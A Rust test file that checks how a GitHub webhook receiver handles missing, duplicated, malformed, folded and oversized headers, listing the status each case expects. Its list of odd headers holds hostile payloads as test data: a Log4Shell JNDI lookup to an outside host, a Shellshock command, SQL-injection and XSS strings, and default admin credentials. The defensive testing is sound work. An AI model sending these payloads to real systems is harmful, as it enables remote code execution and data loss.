//! Headers: twice, folded, broken, odd, too many and too large.

use super::cases::{Case, Lands, Outcome, one_of};
use crate::request::Request;

/// The headers that decide, and what a request gets where the value is no good.
const DECIDING: &[(&str, u16)] = &[
    ("X-Hub-Signature-256", 401),
    ("X-GitHub-Event", 400),
    ("X-GitHub-Delivery", 400),
    ("X-GitHub-Enterprise-Host", 400),
    ("Content-Type", 415),
];
/// Those that are kept where they can be, and decide nothing.
const TOLD: &[&str] = &[
    "X-GitHub-Hook-ID",
    "X-GitHub-Hook-Installation-Target-Type",
    "X-GitHub-Hook-Installation-Target-ID",
];

pub(crate) fn cases() -> Vec<Case> {
    [absent(), twice(), values(), broken(), endings(), sizes(), strange(), bodies()].concat()
}

fn absent() -> Vec<Case> {
    let all = [
        ("X-Hub-Signature-256", 401),
        ("X-GitHub-Event", 400),
        ("X-GitHub-Delivery", 400),
        ("Content-Type", 415),
    ];
    let mut cases: Vec<Case> = all
        .into_iter()
        .map(|(name, status)| {
            Case::new(format!("no {name}"), Request::push().without(name), status)
        })
        .collect();
    let bare = "POST /webhook HTTP/1.1\r\n\r\n";
    cases.extend([
        Case::new("no header at all", bare, 401),
        Case::new("no host", Request::push().without("Host"), one_of([202, 400])),
        Case::new("no user agent", Request::push().without("User-Agent"), 202),
        Case::new(
            "an underscore for a hyphen",
            Request::push().without("X-GitHub-Event").with("X_GitHub_Event", "push"),
            400,
        ),
        Case::new("names in upper case", shouted(), 202),
    ]);
    cases
}

fn shouted() -> Vec<u8> {
    let text = String::from_utf8(Request::push().bytes()).unwrap();
    text.replace("X-GitHub-", "X-GITHUB-").replace("X-Hub-Signature", "x-HUB-sIGNATURE").into()
}

/// Of two, the first counts: what stands behind it changes nothing.
fn twice() -> Vec<Case> {
    let mut cases = vec![];
    for (name, status) in DECIDING {
        let good = Request::push().with("X-GitHub-Enterprise-Host", "ghe.example.org");
        cases.push(Case::new(format!("{name}, good and bad"), good.clone().and(name, "?"), 202));
        let bad = good.first(format!("{name}: ?"));
        cases.push(Case::new(format!("{name}, bad and good"), bad, *status));
    }
    let two = Request::push().and("X-GitHub-Event", "star");
    let lands = Lands { event: Some("push"), ..Lands::default() };
    cases.push(Case::new("two event types", two, 202).lands(lands));
    let hosts = Request::push()
        .and("X-GitHub-Enterprise-Host", "a.example")
        .and("X-GitHub-Enterprise-Host", "b.example");
    let lands = Lands { source: Some("a.example".into()), ..Lands::default() };
    cases.push(Case::new("two enterprise hosts", hosts, 202).lands(lands));
    cases.push(Case::new(
        "two hosts",
        Request::push().and("Host", "b.example"),
        one_of([202, 400]),
    ));
    cases
}

/// The same bad values in each header.
fn values() -> Vec<Case> {
    let mut cases = vec![];
    for (name, status) in DECIDING {
        for (what, value) in [
            ("nothing", &b""[..]),
            ("text that is no ASCII", "é".as_bytes()),
            ("bytes that are no UTF-8", b"\xff\xfe"),
            ("a right-to-left override", "\u{202e}push".as_bytes()),
            ("a tab inside", b"pu\tsh"),
            ("a list", b"push, push"),
        ] {
            let request = Request::push().with(name, value);
            cases.push(Case::new(format!("{what} in {name}"), request, *status));
        }
        for (what, value) in [
            ("a NUL", &b"pu\0sh"[..]),
            ("an escape", b"\x1b]0;x\x07"),
            ("DEL", b"\x7f"),
            ("a carriage return", b"pu\rsh"),
        ] {
            let request = Request::push().with(name, value);
            cases.push(Case::new(format!("{what} in {name}"), request, 400));
        }
    }
    for name in TOLD {
        for (what, value) in [
            ("nothing", &b""[..]),
            ("no ASCII", "é".as_bytes()),
            ("no UTF-8", b"\xff"),
            ("4 KiB", &[b'7'; 4096]),
        ] {
            let request = Request::push().with(name, value);
            cases.push(Case::new(format!("{what} in {name}"), request, 202).lands_payload("{}"));
        }
    }
    let spaced = Request::push().without("X-GitHub-Event").raw("X-GitHub-Event: \t  push \t ");
    cases.push(Case::new("spaces around a value", spaced, 202));
    cases.push(Case::new(
        "no space before a value",
        Request::push().without("X-GitHub-Event").raw("X-GitHub-Event:push"),
        202,
    ));
    cases
}

/// Lines that are no headers.
fn broken() -> Vec<Case> {
    [
        ("a line without a colon", &b"X-GitHub-Event"[..]),
        ("a space before the colon", b"X-GitHub-Event : push"),
        ("a tab before the colon", b"X-GitHub-Event\t: push"),
        ("a space in a name", b"X-GitHub Event: push"),
        ("an empty name", b": push"),
        ("a name in parentheses", b"(X-GitHub-Event): push"),
        ("a name with a NUL", b"X-GitHub\0-Event: push"),
        ("a name that is no ASCII", "X-GitHub-Évent: push".as_bytes()),
        ("a name that is no UTF-8", b"X-\xff: push"),
        ("a name with an escape", b"X-\x1b[31m: push"),
        ("a folded line", b"X-Folded: a\r\n b"),
        ("a line folded by a tab", b"X-Folded: a\r\n\tb"),
        ("an empty folded line", b"X-Folded: a\r\n \r\n\t"),
        ("a carriage return alone", b"X-A: b\rX-B: c"),
        ("a NUL in a value", b"X-A: \0"),
        ("a backspace in a value", b"X-A: \x08"),
    ]
    .into_iter()
    .map(|(name, line)| Case::new(name, Request::push().raw(line), 400))
    .chain([
        Case::new("a fold before the first header", Request::push().first(" X-A: b"), 400),
        Case::new(
            "a folded signature",
            Request::push().with("X-Hub-Signature-256", "sha256=\r\n 00"),
            400,
        ),
        Case::new("a request line as a header", Request::push().raw("POST /webhook HTTP/1.1"), 400),
    ])
    .collect()
}

/// Line ends. A line feed alone is an end, which RFC 9112 allows a server to take.
fn endings() -> Vec<Case> {
    let signed = Request::push();
    vec![
        Case::new("line feeds alone", signed.bytes_with("\n"), one_of([202, 400])),
        Case::new("carriage returns alone", signed.bytes_with("\r"), 400),
        Case::new("ends the wrong way round", signed.bytes_with("\n\r"), 400),
        Case::new("two carriage returns", signed.bytes_with("\r\r\n"), 400),
        Case::new("a separator of Unicode", signed.bytes_with("\u{2028}"), 400),
        Case::new(
            "empty lines in front",
            [&b"\r\n\r\n"[..], &Request::push().bytes()].concat(),
            202,
        ),
    ]
}

fn sizes() -> Vec<Case> {
    let many = |count: usize, bytes: usize| {
        let value = "a".repeat(bytes);
        (0..count).fold(Request::push(), |request, n| request.raw(format!("X-{n}: {value}")))
    };
    let long = |bytes: usize| Request::push().with("X-Long", "a".repeat(bytes));
    vec![
        Case::new("80 headers", many(80, 10), 202),
        Case::new("1,000 headers", many(1_000, 1), 431),
        Case::new("10,000 headers", many(10_000, 1), 431),
        Case::new("60 KiB of headers", many(60, 950), 202),
        Case::new("80 KiB of headers", many(80, 1_000), 431),
        Case::new("a header of 60 KiB", long(60 << 10), 202),
        Case::new("a header of 70 KiB", long(70 << 10), 431),
        Case::new("a header of 390 KB", long(390_000), 431),
        Case::new("a header of 4 MiB", long(4 << 20), 431),
        Case::new(
            "a name of 60 KB",
            Request::push().raw(format!("{}: x", "a".repeat(60_000))),
            one_of([202, 431]),
        ),
        Case::new(
            "a name of 70 KB",
            Request::push().raw(format!("{}: x", "a".repeat(70_000))),
            431,
        ),
        Case::new(
            "a signature of 60 KB",
            Request::push().with("X-Hub-Signature-256", format!("sha256={}", "0".repeat(60_000))),
            401,
        ),
        Case::new(
            "an event type of 60 KB",
            Request::push().with("X-GitHub-Event", "a".repeat(60_000)),
            400,
        ),
        Case::new(
            "64 KiB that end nowhere",
            [b"POST / HTTP/1.1\r\nX: ", &[b'a'; 70_000][..]].concat(),
            431,
        ),
    ]
}

/// Headers that ask for what is not done here.
fn strange() -> Vec<Case> {
    [
        ("Connection", "close, X-Hub-Signature-256, X-GitHub-Event"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("X-Original-URL", "/health"),
        ("X-Forwarded-For", "'; drop table events; --"),
        ("X-Forwarded-For", "127.0.0.1, 127.0.0.1, 127.0.0.1"),
        ("Forwarded", "for=\"[::1]\";proto=https"),
        ("X-Real-IP", "\"><script>alert(1)</script>"),
        ("Host", ""),
        ("Host", "a b"),
        ("Host", "127.0.0.1:1/../"),
        ("User-Agent", "${jndi:ldap://192.0.2.1/a}"),
        ("User-Agent", "() { :;}; /bin/id"),
        ("Authorization", "Basic YWRtaW46YWRtaW4="),
        ("Cookie", "_delivery=1"),
        ("Range", "bytes=0-18446744073709551615"),
        ("If-None-Match", "*"),
        ("Accept", "text/html"),
        ("Accept-Encoding", "gzip, br, zstd, *;q=0"),
        ("Origin", "https://elsewhere.example"),
        ("Max-Forwards", "0"),
        ("Upgrade", "h2c"),
        ("Upgrade", "websocket"),
        ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
        ("X-GitHub-Event-Type", "star"),
        ("X-Hub-Signature", "sha1=0000000000000000000000000000000000000000"),
        ("Expect", "100-continue"),
        ("Expect", "200-ok"),
        ("Keep-Alive", "timeout=999999, max=999999"),
        ("Proxy-Connection", "keep-alive"),
        ("Trailer", "X-Hub-Signature-256"),
        ("TE", "trailers, gzip"),
    ]
    .into_iter()
    .map(|(name, value)| {
        Case::new(
            format!("{name}: {value}"),
            Request::push().with(name, value),
            outcome(name, value),
        )
    })
    .collect()
}

/// An expectation that cannot be met may be said so (417).
fn outcome(name: &str, value: &str) -> Outcome {
    if (name, value) == ("Expect", "200-ok") { one_of([202, 417]) } else { 202.into() }
}

/// What comes with a body is not decoded: the signature is over the bytes as they are sent.
fn bodies() -> Vec<Case> {
    let packed = {
        use std::io::Write;
        let mut encoder = flate2::write::GzEncoder::new(vec![], flate2::Compression::fast());
        encoder.write_all(b"{}").unwrap();
        encoder.finish().unwrap()
    };
    let mut cases = vec![
        Case::new("a packed body", Request::of(&packed).with("Content-Encoding", "gzip"), 400),
        Case::new("a packed body that is not called so", Request::of(&packed), 400),
        Case::new(
            "a packed body with the plain one's signature",
            Request::push().body(&packed).with("Content-Encoding", "gzip"),
            401,
        ),
    ];
    cases.extend(["gzip", "deflate", "br", "identity", "aes128gcm", "x", ""].into_iter().map(
        |coding| {
            let request = Request::push().with("Content-Encoding", coding);
            Case::new(
                format!("a plain body that is called {coding:?}"),
                request,
                one_of([202, 415]),
            )
        },
    ));
    cases
}
